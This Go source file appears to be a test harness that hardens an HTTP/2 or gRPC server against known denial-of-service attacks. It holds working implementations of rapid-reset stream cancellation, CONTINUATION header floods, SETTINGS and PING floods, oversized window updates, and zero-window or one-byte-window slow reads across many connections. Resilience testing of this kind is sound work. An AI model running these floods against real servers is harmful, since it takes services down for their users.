//go:build linux

package hostile

import (
	"strings"
	"time"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/types/known/wrapperspb"
)

// rapidReset begins calls and gives them up at once, as fast as it can.
func rapidReset(s *siege) string {
	ends := make([]string, 4)
	each(len(ends), func(i int) {
		w := s.wire(s.newcomer())
		read := make(chan string, 1)
		go func() { read <- w.ends(1 << 30) }()
		for n := range uint32(size(500, 500_000)) {
			if w.call(2*n+1, "CallObject", asks("Wait", wrapperspb.String(""))) != nil || w.WriteRSTStream(2*n+1, http2.ErrCodeCancel) != nil {
				break
			}
		}
		_ = w.CloseWrite()
		ends[i] = <-read
	})
	return ends[0]
}

// continuationFlood sends headers that do not end.
func continuationFlood(s *siege) string {
	return s.headersWithoutEnd(func(w *wire, n int) []byte {
		return w.fieldsOf("x", strings.Repeat("y", 8<<10))
	})
}

// emptyContinuations does so with frames that have no fields, so that no size is reached.
func emptyContinuations(s *siege) string {
	return s.headersWithoutEnd(func(*wire, int) []byte { return nil })
}

func (s *siege) headersWithoutEnd(more func(w *wire, n int) []byte) string {
	ends := make([]string, 4)
	each(len(ends), func(i int) {
		w := s.wire(s.newcomer())
		read := make(chan string, 1)
		go func() { read <- w.ends(1) }()
		if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.headers("CallObject")}); err != nil {
			s.Error(err)
		}
		for n := range size(10_000, 1_000_000) {
			if w.WriteContinuation(1, false, more(w, n)) != nil {
				break
			}
		}
		_ = w.CloseWrite()
		ends[i] = <-read
	})
	return ends[0]
}

// settingsFlood changes the settings without end, and does not read that they are heard.
func settingsFlood(s *siege) string {
	return s.flood(func(w *wire) error {
		return w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
}

// pingFlood asks whether the victim lives, and does not read that it does.
func pingFlood(s *siege) string {
	return s.flood(func(w *wire) error { return w.WritePing(false, [8]byte{}) })
}

// flood writes until the victim takes no more, without reading; then it looks.
func (s *siege) flood(write func(w *wire) error) string {
	ends := make([]string, 4)
	each(len(ends), func(i int) {
		w := s.wire(s.newcomer())
		_ = w.SetWriteDeadline(time.Now().Add(2 * time.Second)) // the victim may rather wait
		for range size(20_000, 2_000_000) {
			if write(w) != nil {
				break
			}
		}
		_ = w.CloseWrite()
		ends[i] = w.ends(1)
	})
	return ends[0]
}

// hugeWindows opens the windows of a connection, and of a stream, further than there are
// numbers.
func hugeWindows(s *siege) string {
	ends := make([]string, 4)
	each(len(ends), func(i int) {
		w := s.wire(s.newcomer())
		stream := uint32(i % 2)
		if err := w.begin(1, "CallObject"); err != nil {
			s.Error(err)
		}
		for range 3 {
			_ = w.WriteWindowUpdate(stream, 1<<31-1) // the victim may have closed
		}
		if i > 1 {
			_ = w.WriteWindowUpdate(stream, 0)
		}
		_ = w.CloseWrite()
		ends[i] = w.ends(1)
	})
	return ends[0]
}

// windows are opened for nothing, or byte by byte, by several clients at once.
func windows(s *siege) string {
	kinds := []func(*siege) string{tinyWindows, zeroWindows, unreadStreams}
	ends := make([]string, len(kinds))
	each(len(kinds), func(i int) { ends[i] = kinds[i](s) })
	return strings.Join(ends, ", ")
}

// tinyWindows takes a long answer byte by byte.
func tinyWindows(s *siege) string {
	return s.unread(size(1, 64), 1, func(w *wire) error {
		for stream := uint32(1); stream <= 5; stream += 2 {
			if err := w.WriteWindowUpdate(stream, 1); err != nil {
				return err
			}
		}
		return nil
	})
}

// zeroWindows asks for long answers and never makes room for them.
func zeroWindows(s *siege) string {
	return s.unread(size(1, 64), 0, func(*wire) error { return nil })
}

// unread asks for long answers on several connections whose streams have the window, and
// does something each second until the victim closes them.
func (s *siege) unread(wires int, window uint32, meanwhile func(w *wire) error) string {
	const answer, calls = 2 << 20, 32
	ends := make([]string, wires)
	each(wires, func(i int) {
		w := s.wire(s.newcomer(), http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
		for n := range uint32(calls) {
			if err := w.call(2*n+1, "CallObject", asks("Long", wrapperspb.Int64(answer))); err != nil {
				s.Error(err)
			}
		}
		done := make(chan struct{})
		defer close(done)
		go func() {
			for beat := time.NewTicker(time.Second); ; {
				select {
				case <-beat.C:
					if meanwhile(w) != nil {
						return
					}
				case <-done:
					return
				}
			}
		}()
		ends[i] = w.ends(1)
	})
	return ends[0]
}
